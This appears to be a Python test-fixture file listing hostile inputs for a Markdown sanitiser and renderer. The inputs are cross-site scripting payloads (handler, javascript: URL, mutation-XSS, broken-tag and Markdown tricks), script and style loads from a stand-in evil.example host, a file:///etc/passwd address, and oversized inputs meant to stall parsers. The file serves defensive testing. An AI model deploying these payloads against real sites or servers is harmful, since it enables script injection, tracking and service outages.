"""Texts that somebody sends who means harm: to run a script in another's page, to mislead readers, or to stop the server.

The families are those that sanitisers have fallen for: handlers, addresses that run, namespaces in which a parser
changes its mind (mutation), broken tags, character tricks, and Markdown's own ways of making tags and addresses.
"""

from __future__ import annotations

_RUN = "alert(1)"
_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onbegin",
    "onpageshow", "onscrollend", "onbeforematch",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "javascript&#58;alert(1)", "javascript&colon;alert(1)", "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "//evil.example/x",
    "\\\\evil.example\\x", "/\\evil.example", "https:/\\evil.example", "file:///etc/passwd", "blob:https://x/1",
    "%6Aavascript:alert(1)", "jav&#x09;ascript:alert(1)", "javascript\u200b:alert(1)",
)  # fmt: skip
_ELEMENTS = (
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", "<script src=//evil.example/x.js></script>", f"<script\n>{_RUN}</script\n>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script>{_RUN}", f"<<script>{_RUN}//<</script>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example>",
    "<link rel=import href=//evil.example>", "<style>@import '//evil.example';</style>", "<style>*{background:url(javascript:alert(1))}</style>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>", "<input type=image src=x onerror=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<dialog open>masuk lagi</dialog>",
    "<template><script>alert(1)</script></template>", "<portal src=//evil.example>", "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<p style='position:fixed;inset:0'>palsu</p>", "<div id=konten class='banner'>palsu</div>", "<a name=csrf_token id=csrf_token>x</a>",
    "<img name=cookie id=body>", "<form id=naskah><input name=action></form>", "<slot onslotchange=alert(1)>",
    "<details name=x open ontoggle=alert(1)><summary>x</summary></details>", "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>",
)  # fmt: skip
_MUTATIONS = (
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>", "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<!--><script>alert(1)</script>-->", "<!--><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>", "</p><script>alert(1)</script><p>", "<table><td><script>alert(1)</script>", "<plaintext><script>alert(1)</script>",
)  # fmt: skip
_BROKEN = (
    "<img src=x onerror=alert(1)//", "<img src=x onerror=alert(1)\n", "<img/src=x/onerror=alert(1)>", "<img src=x\x00 onerror=alert(1)>", "<img src=x\x0conerror=alert(1)>",
    "<img \x0bonerror=alert(1) src=x>", "<img src='x'onerror=alert(1)>", '<img src="x` `<script>alert(1)</script>"` `>', "<a href='x'onclick='alert(1)'>y</a>",
    "<b/onclick=alert(1)>x", "<a href=\"javascript&NewLine;:alert(1)\">x</a>", "\ufeff<script>alert(1)</script>", "<\x00script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<svg/onload=alert(1)", "<a/href=javascript:alert(1)>x", "<img src=x onerror\x00=alert(1)>", "<%00script>alert(1)</script>",
)  # fmt: skip
_MARKDOWN = (
    "[a]: javascript:alert(1)\n\n[a]", "[a][b]\n\n[b]: <javascript:alert(1)>", "<javascript:alert(1)>", "<https://x.id/\"onmouseover=alert(1)>",
    "[a](https://x.id \"t\" onclick=1)", "[a](<javascript:alert(1)>)", "![a](x \"' onerror=alert(1) '\")", "![a\"onerror=alert(1)](x)",
    "[a\"><img src=x onerror=alert(1)>](https://x.id)", "| a |\n|---|\n| <b onclick=x>y</b> |", "| [x](javascript:alert(1)) |\n|---|\n| y |", "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "~~~\"><script>alert(1)</script>\nx\n~~~", "# <script>alert(1)</script>", "## a {onclick=alert(1)}",
    "a {: onclick=alert(1)}", "- <script>alert(1)</script>", "> <script>alert(1)</script>", "1. <img src=x onerror=alert(1)>", "**<script>alert(1)</script>**",
    "*a*<script>alert(1)</script>_b_", "<div markdown=1 onclick=alert(1)>**a**</div>", "[^1]\n\n[^1]: <script>alert(1)</script>", "*[HTML]: \"><script>alert(1)</script>\n\nHTML",
    "[@uu-20-2023 pasal-9-2\"onclick=alert(1)]", "<a class=\"cite\" href=\"//evil.example\">x</a>", "[a](//evil.example)", "![x](//evil.example/pelacak.gif)", "{{ 7 * 7 }} {% include 'x' %}",
    "[TOC]", "\u202ebalik\u202c", "a\u2028<script>alert(1)</script>", "\x02wzxhzdk:0\x03", "\x02amp\x03lt;script\x02amp\x03gt;",
)  # fmt: skip

TRICKS: tuple[str, ...] = (
    *(f"<img src=x {handler}={_RUN}>" for handler in _HANDLERS),
    *(f"<svg {handler}={_RUN}>" for handler in _HANDLERS),
    *(f"[klik]({address})" for address in _ADDRESSES),
    *(f'<a href="{address}">klik</a>' for address in _ADDRESSES),
    *(f"![gambar]({address})" for address in _ADDRESSES),
    *_ELEMENTS,
    *_MUTATIONS,
    *_BROKEN,
    *_MARKDOWN,
)
"""Whatever of these is written in a course, its pages run nothing, load nothing from elsewhere, and imitate nothing."""

LONG_LINES: tuple[str, ...] = (
    ":" * 100_000 + "x", "- [" + " " * 100_000 + "x", "- a" + " " * 100_000 + "=", "### a" + " " * 100_000 + "{", "## " + " \t" * 50_000 + "x",
    "::" + " " * 100_000 + "x y", "[" * 100_000, "[@" * 50_000, "{" * 100_000, "<" * 100_000, "*" * 60_000, "> " * 40_000, "`" * 100_001,
    "- [x] " + "// " * 30_000, "| " * 50_000, "&" * 100_000, "![" * 50_000, "](" * 50_000, "=" * 100_000, "_a" * 40_000, "<a" * 50_000,
)  # fmt: skip
"""One line each; made for readers whose work grows with the square of a line's length, or worse."""

HEAVY_TEXTS: tuple[str, ...] = (
    "[" * 64_000, "[" * 64_000 + "](x)", "![" * 32_000, "*a " * 20_000, "**a " * 16_000, "_" * 64_000, "> " * 30_000 + "a",
    "".join("    " * depth + "- a\n\n" for depth in range(170)), "".join("> " * depth + "a\n" for depth in range(300)), "<b>" * 20_000,
    "`" * 32_000 + "a", "[a][b]\n" * 9_000, "".join(f"[a{n}]: x\n" for n in range(5_000)), "| a " * 15_000 + "|\n" + "|---" * 15_000 + "|",
    "&" * 60_000, "http://" * 9_000, "1. " * 20_000, "- " * 30_000, "\n" * 60_000 + "a", "a\u0301" * 20_000, "<!--" * 15_000,
)  # fmt: skip
"""Up to 64 kB each; made to keep a Markdown renderer busy for as long as possible."""
